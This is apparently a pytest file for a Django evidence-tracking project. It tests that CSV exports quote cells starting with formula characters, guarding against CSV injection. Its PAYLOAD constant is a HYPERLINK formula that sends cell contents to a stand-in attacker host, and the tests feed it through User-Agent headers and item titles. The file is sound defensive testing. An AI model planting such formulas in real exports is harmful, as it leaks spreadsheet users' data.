"""No CSV the project writes lets a spreadsheet run a cell as a formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from evidence.lib import csvcells
from tests.factories import EvidenceItemFactory, ManufacturerFactory, UserFactory

PAYLOAD = '=HYPERLINK("https://attacker.example/?"&A1,"x")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_gets_a_quote(start):
    assert csvcells.neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["plain", "", "a=b", " =1", "'=already", 12, -3, None, True])
def test_other_values_stay_as_they_are(value):
    assert csvcells.neutralise(value) == value


def test_both_writers_neutralise_every_cell_header_included():
    buffer = io.StringIO()
    writer = csvcells.writer(buffer)
    writer.writerow(["@header", PAYLOAD, 5])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'@header", "'" + PAYLOAD, "5"]]
    buffer = io.StringIO()
    writer = csvcells.dict_writer(buffer, fieldnames=["-name"])
    writer.writeheader()
    writer.writerow({"-name": "+31 20 555 0100"})
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'-name"], ["'+31 20 555 0100"]]


def cells(response) -> list[str]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def assert_no_formula(values: list[str]) -> None:
    starting = [value for value in values if value.startswith(csvcells.FORMULA_PREFIXES)]
    assert not starting, starting


@pytest.mark.django_db
def test_the_exhibit_access_report_quotes_what_a_prober_sent(api, team):
    item = EvidenceItemFactory(case=team.case)
    # Anyone signed in can plant a row: an outsider's refused probe is in the report too.
    api(team.charlie).get(f"/api/v1/evidence-items/{item.pk}/", HTTP_USER_AGENT=PAYLOAD)
    api(UserFactory(username="@mallory")).get(f"/api/v1/evidence-items/{item.pk}/", HTTP_USER_AGENT="\tcmd")
    values = cells(api(team.alice).get(f"/api/v1/evidence-items/{item.pk}/access-report/"))
    assert "'" + PAYLOAD in values
    assert {"'@mallory", "'\tcmd"} <= set(values)
    assert_no_formula(values)


@pytest.mark.django_db
def test_the_sanctions_report_csv_quotes_titles_part_numbers_and_countries(api, client, team):
    maker = ManufacturerFactory(name="+Maker", country="@Country")
    EvidenceItemFactory(case=team.case, actor=team.ivan, kind="component", manufacturer=maker, title=PAYLOAD,
                        part_number="-AD7541", country_of_origin="=1+1")  # fmt: skip
    api_values = cells(api(team.vera).get(f"/api/v1/sanctions-reports/{team.case.pk}/", {"export": "csv"}))
    client.force_login(team.vera)
    url = reverse("admin:evidence_sanctions_report", args=[team.case.pk])
    admin_values = cells(client.get(url, {"export": "csv"}))
    for values in (api_values, admin_values):
        assert {"'" + PAYLOAD, "'-AD7541", "'=1+1", "'+Maker"} <= set(values)
        assert_no_formula(values)
